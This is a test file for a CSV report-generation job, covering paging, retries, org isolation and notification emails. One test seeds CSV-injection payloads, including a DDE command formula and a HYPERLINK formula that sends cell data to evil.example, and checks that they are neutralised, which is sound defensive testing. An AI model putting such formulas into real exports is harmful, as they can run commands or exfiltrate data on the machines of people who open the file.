import { randomUUID } from "node:crypto";
import { InngestTestEngine } from "@inngest/test";
import { parse } from "csv-parse/sync";
import { count, eq, sql } from "drizzle-orm";
import type { InngestFunction } from "inngest";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { activityEvents, mailMessages, reports, storedFiles, tasks } from "@/db/schema";
import { getDb } from "@/lib/db/client";
import { reportRequested } from "@/lib/data-transfers/events";
import { generateReport } from "@/lib/inngest/functions/generate-report";
import { appendReportPage, appendReportPages, createReport, finishReport, getReportFile, REPORT_PAGE_ROWS, startReport } from "@/lib/data-transfers/reports";
import { getFileStore } from "@/lib/storage/file-store";
import { createOrgWithRoles, createProjectFor, createTaskFor, mailTo } from "@/lib/testing/factories";
import { appConfig } from "@/lib/app-config";
import { setEventSenderForTests } from "@/lib/testing/jobs";

// The report job run on its own (@inngest/test). createReport's queued event is captured, not run, so the in-process
// executor does not generate the same report in the background.

beforeEach(() => setEventSenderForTests(async () => {}));
afterEach(() => setEventSenderForTests(undefined));

type Actor = { userId: string };

async function setup() {
  const ctx = await createOrgWithRoles();
  const project = await createProjectFor(ctx.org.id, ctx.owner.id, "Roadmap");
  return { ...ctx, project };
}

/** `n` tasks in one go (the services would take minutes): every 7th assigned to `assigneeId`, every 5th due. */
async function insertTasks(orgId: string, projectId: string, createdById: string, n: number, assigneeId?: string) {
  const ids: string[] = [];
  for (let start = 0; start < n; start += 500) {
    const values = Array.from({ length: Math.min(500, n - start) }, (_, k) => {
      const i = start + k;
      return {
        orgId,
        projectId,
        title: `Task ${i}`,
        status: (["todo", "in_progress", "done"] as const)[i % 3],
        assigneeId: assigneeId && i % 7 === 0 ? assigneeId : null,
        dueOn: i % 5 === 0 ? "2027-03-01" : null,
        createdById,
      };
    });
    const rows = await getDb().insert(tasks).values(values).returning({ id: tasks.id });
    ids.push(...rows.map((r) => r.id));
  }
  return ids;
}

async function requestReport(actor: Actor, orgId: string, kind: "tasks" | "activity") {
  const { reportId } = await createReport({ actor, input: { orgId, kind } });
  return reportId;
}

function runReport(reportId: string, orgId: string) {
  return new InngestTestEngine({ function: generateReport }).execute({
    events: [{ id: randomUUID(), name: reportRequested.name, data: { reportId, orgId } }],
  });
}

async function reportRow(reportId: string) {
  const [row] = await getDb().select().from(reports).where(eq(reports.id, reportId));
  return row!;
}

/** The stored CSV of a report, parsed (read straight from storage: it need not be completed). */
async function csvOf(reportId: string): Promise<string[][]> {
  const { fileId, orgId } = await reportRow(reportId);
  const file = await getFileStore().get(orgId, fileId!);
  return parse(file!.data) as string[][];
}

/** What a download sends: the streamed body, read to the end. */
async function downloaded(file: { body: ReadableStream<Uint8Array> }): Promise<Buffer> {
  return Buffer.from(await new Response(file.body).arrayBuffer());
}

describe("generate-report", () => {
  it("writes a 2,500-task report in 3 pages: header + one line per task, completed, and emails the requester", async () => {
    const ctx = await setup();
    const ids = await insertTasks(ctx.org.id, ctx.project.id, ctx.owner.id, 2500, ctx.member.id);
    // Another org's tasks never leak into the report.
    const other = await setup();
    await insertTasks(other.org.id, other.project.id, other.owner.id, 30);
    const reportId = await requestReport(ctx.actors.member, ctx.org.id, "tasks");

    const { result, error, ctx: run } = await runReport(reportId, ctx.org.id);

    expect(error).toBeUndefined();
    expect(result).toEqual({ rows: 2500, pages: 3 });
    expect(run.step.run.mock.calls.map(([id]) => id)).toEqual(["start", "write pages from 1", "finish", "email the requester"]);

    const row = await reportRow(reportId);
    expect(row).toMatchObject({ status: "completed", totalRows: 2500, rowCount: 2500, pagesDone: 3, cursor: null, failureReason: null });
    expect(row.finishedAt).toBeInstanceOf(Date);

    // What the member downloads.
    const file = await getReportFile({ actor: ctx.actors.member, orgId: ctx.org.id, reportId });
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    const data = await downloaded(file);
    expect(file.size).toBe(data.byteLength); // the Content-Length sent
    const [header, ...lines] = parse(data) as string[][];
    expect(header).toEqual(["id", "project", "title", "status", "assignee", "due_on", "created_at", "updated_at"]);
    expect(lines).toHaveLength(2500);
    expect(new Set(lines.map((l) => l[0]))).toEqual(new Set(ids));
    const first = lines.find((l) => l[2] === "Task 0")!;
    expect(first).toEqual([ids[0], "Roadmap", "Task 0", "todo", ctx.member.email, "2027-03-01", expect.any(String), expect.any(String)]);
    expect(new Date(first[6]!).toISOString()).toBe(first[6]);
    expect(lines.find((l) => l[2] === "Task 1")).toEqual([ids[1], "Roadmap", "Task 1", "in_progress", "", "", expect.any(String), expect.any(String)]);

    const mail = await mailTo(ctx.member.email);
    expect(mail).toHaveLength(1);
    expect(mail[0]!.subject).toBe(`Your tasks report for ${ctx.org.name} is ready`);
    expect(mail[0]!.text).toContain(`The tasks report of ${ctx.org.name} (2500 rows) is ready`);
    expect(mail[0]!.text).toContain(`http://localhost:3000/${ctx.org.slug}/data`);
  });

  it("a step writes several pages, and a retried step goes on from the first page not written", async () => {
    const ctx = await setup();
    const ids = await insertTasks(ctx.org.id, ctx.project.id, ctx.owner.id, 2500);
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");
    await startReport(reportId);

    expect(await appendReportPages(reportId, 0, { pages: 2 })).toEqual({ hasMore: true, rowCount: 2000, nextPage: 2 });
    expect(await appendReportPages(reportId, 0, { pages: 2 })).toEqual({ hasMore: true, rowCount: 2000, nextPage: 2 }); // retried
    expect(await appendReportPages(reportId, 2, { pages: 2 })).toEqual({ hasMore: false, rowCount: 2500, nextPage: 3 });

    const [, ...lines] = await csvOf(reportId);
    expect(lines.map((l) => l[0]).sort()).toEqual([...ids].sort());
  });

  it("writing the same page twice (a retried step) does not duplicate its rows", async () => {
    const ctx = await setup();
    const ids = await insertTasks(ctx.org.id, ctx.project.id, ctx.owner.id, 1500);
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");

    expect(await startReport(reportId)).toEqual({ totalRows: 1500 });
    const { fileId } = await reportRow(reportId);
    expect(await startReport(reportId)).toEqual({ totalRows: 1500 }); // a retried start keeps its file
    expect((await reportRow(reportId)).fileId).toBe(fileId);
    const [{ files }] = (await getDb().select({ files: count() }).from(storedFiles).where(eq(storedFiles.orgId, ctx.org.id))) as [{ files: number }];
    expect(files).toBe(1);

    expect(await appendReportPage(reportId, 0)).toEqual({ hasMore: true, rowCount: REPORT_PAGE_ROWS });
    expect(await appendReportPage(reportId, 0)).toEqual({ hasMore: true, rowCount: REPORT_PAGE_ROWS });
    expect(await csvOf(reportId)).toHaveLength(1 + REPORT_PAGE_ROWS);

    expect(await appendReportPage(reportId, 1)).toEqual({ hasMore: false, rowCount: 1500 });
    expect(await appendReportPage(reportId, 1)).toEqual({ hasMore: false, rowCount: 1500 });
    expect(await appendReportPage(reportId, 0)).toEqual({ hasMore: false, rowCount: 1500 });

    const [, ...lines] = await csvOf(reportId);
    expect(lines).toHaveLength(1500);
    expect(new Set(lines.map((l) => l[0]))).toEqual(new Set(ids));
    expect(await finishReport(reportId)).toMatchObject({ kind: "tasks", rowCount: 1500 });
    expect(await reportRow(reportId)).toMatchObject({ status: "completed", rowCount: 1500 });
  });

  it("writes the activity report: one line per event of the org, oldest first, across pages", async () => {
    const ctx = await setup(); // project.created
    const task = await createTaskFor(ctx.org.id, ctx.project.id, ctx.admin.id, "Draft the plan"); // task.created
    // A minute back (kept inside the current month, whose partition exists), one event per millisecond.
    const now = new Date();
    const base = Math.max(now.getTime() - 60_000, Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1));
    await getDb()
      .insert(activityEvents)
      .values(
        Array.from({ length: 1200 }, (_, i) => ({
          orgId: ctx.org.id,
          actorId: ctx.member.id,
          type: "task.updated",
          subjectType: "task",
          subjectId: task.id,
          data: { n: i },
          createdAt: new Date(base + i),
        })),
      );
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "activity"); // report.requested

    const { result, error } = await runReport(reportId, ctx.org.id);

    expect(error).toBeUndefined();
    expect(result).toEqual({ rows: 1203, pages: 2 });
    expect(await reportRow(reportId)).toMatchObject({ status: "completed", totalRows: 1203, rowCount: 1203 });
    const [header, ...lines] = await csvOf(reportId);
    expect(header).toEqual(["created_at", "actor", "type", "subject_type", "subject_id", "data"]);
    expect(lines).toHaveLength(1203);
    const updates = lines.filter((l) => l[2] === "task.updated");
    expect(updates.map((l) => (JSON.parse(l[5]!) as { n: number }).n)).toEqual(Array.from({ length: 1200 }, (_, i) => i));
    expect(updates[0]).toEqual([new Date(base).toISOString(), ctx.member.email, "task.updated", "task", task.id, '{"n":0}']);
    const times = lines.map((l) => l[0]!);
    expect(times).toEqual([...times].sort());
    expect(lines.filter((l) => l[2] !== "task.updated").map((l) => l.slice(1, 5))).toEqual([
      [ctx.owner.email, "project.created", "project", ctx.project.id],
      [ctx.admin.email, "task.created", "task", task.id],
      [ctx.owner.email, "report.requested", "report", reportId],
    ]);

    const mail = await mailTo(ctx.owner.email);
    expect(mail.map((m) => m.subject)).toEqual([`Your activity report for ${ctx.org.name} is ready`]);
  });

  // CSV injection: a spreadsheet runs a cell that starts with = + - @ tab or CR. Inserted straight into the table (the
  // schemas refuse tab and CR in titles today, but rows written before, by an import or a fork must be safe too).
  it("neutralises formula-like cells in every column: each gets a leading single quote", async () => {
    const ctx = await setup();
    const project = await createProjectFor(ctx.org.id, ctx.owner.id, "=cmd|' /C calc'!A0");
    const dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
    await getDb()
      .insert(tasks)
      .values([...dangerous, "Plain title", "a=b"].map((title) => ({ orgId: ctx.org.id, projectId: project.id, title, createdById: ctx.owner.id })));
    const reportId = await requestReport(ctx.actors.admin, ctx.org.id, "tasks");

    const { error } = await runReport(reportId, ctx.org.id);

    expect(error).toBeUndefined();
    const file = await getReportFile({ actor: ctx.actors.admin, orgId: ctx.org.id, reportId });
    const [, ...lines] = parse((await downloaded(file)).toString("utf8")) as string[][];
    const titles = lines.map((l) => l[2]);
    expect(titles).toEqual(expect.arrayContaining([...dangerous.map((t) => `'${t}`), "Plain title", "a=b"]));
    expect(titles).toHaveLength(8);
    expect(new Set(lines.map((l) => l[1]))).toEqual(new Set(["'=cmd|' /C calc'!A0"]));
    // No cell, in any column, starts with a formula character once the CSV text is read back.
    expect(lines.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it("an empty report completes with just the header", async () => {
    const ctx = await setup();
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");

    const { result } = await runReport(reportId, ctx.org.id);

    expect(result).toEqual({ rows: 0, pages: 1 });
    expect(await csvOf(reportId)).toEqual([["id", "project", "title", "status", "assignee", "due_on", "created_at", "updated_at"]]);
    expect(await reportRow(reportId)).toMatchObject({ status: "completed", rowCount: 0 });
  });

  it("completes without an email when the requester's account is gone", async () => {
    const ctx = await setup();
    await insertTasks(ctx.org.id, ctx.project.id, ctx.owner.id, 3);
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");
    await getDb().update(reports).set({ requestedById: null }).where(eq(reports.id, reportId));
    const [{ before }] = (await getDb().select({ before: count() }).from(mailMessages)) as [{ before: number }];

    const { result, ctx: run } = await runReport(reportId, ctx.org.id);

    expect(result).toEqual({ rows: 3, pages: 1 });
    expect(run.step.run).not.toHaveBeenCalledWith("email the requester", expect.any(Function));
    expect(await reportRow(reportId)).toMatchObject({ status: "completed" });
    const [{ after }] = (await getDb().select({ after: count() }).from(mailMessages)) as [{ after: number }];
    expect(after).toBe(before);
  });

  it("fails for good on a report that does not exist, and the failure handler marks a report failed", async () => {
    const ctx = await setup();
    const missing = randomUUID();
    const { error } = await runReport(missing, ctx.org.id);
    expect(error).toMatchObject({ name: "NonRetriableError", message: `Report ${missing} not found.` });

    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");
    const fn = generateReport as unknown as { createExecution(opts: { partialOptions: Record<string, unknown> }): unknown };
    const failureFn = Object.create(generateReport, {
      createExecution: { value: (opts: { partialOptions: Record<string, unknown> }) => fn.createExecution({ partialOptions: { ...opts.partialOptions, handlerKind: "failure" } }) },
    }) as InngestFunction.Like;
    const failed = await new InngestTestEngine({ function: failureFn }).execute({
      events: [
        {
          name: "inngest/function.failed",
          data: {
            function_id: `${appConfig.id}-generate-report`,
            run_id: randomUUID(),
            error: { name: "Error", message: "The database went away" },
            event: { id: randomUUID(), name: reportRequested.name, data: { reportId, orgId: ctx.org.id } },
          },
        },
      ],
    });

    expect(failed.error).toBeUndefined();
    // An unexpected error's text is not for users: they get a generic reason (the error is in job_runs and the logs).
    expect(await reportRow(reportId)).toMatchObject({ status: "failed", failureReason: "The report stopped on an unexpected error. Request it again." });
    expect((await reportRow(reportId)).finishedAt).toBeInstanceOf(Date);
  });

  // The page cursor keeps created_at as Postgres text: through a JS Date the microseconds would be lost and rows of the
  // millisecond at a page boundary written again (PGlite's millisecond clock hides that; a Postgres server does not).
  it("rows whose created_at has microseconds are written once each", async () => {
    const ctx = await setup();
    await getDb().insert(tasks).values(
      Array.from({ length: 1500 }, (_, i) => ({
        orgId: ctx.org.id,
        projectId: ctx.project.id,
        title: `Task ${i}`,
        createdById: ctx.owner.id,
        createdAt: sql`now() + make_interval(secs => ${i} * 0.000001)` as unknown as Date,
      })),
    );
    const reportId = await requestReport(ctx.actors.owner, ctx.org.id, "tasks");
    await startReport(reportId);
    let hasMore = true;
    for (let page = 0; hasMore && page < 5; page++) ({ hasMore } = await appendReportPage(reportId, page));

    const [, ...lines] = await csvOf(reportId);
    expect(lines.length - new Set(lines.map((l) => l[0])).size).toBe(0); // lines written twice
    expect(lines).toHaveLength(1500);
    expect(hasMore).toBe(false);
  });
});
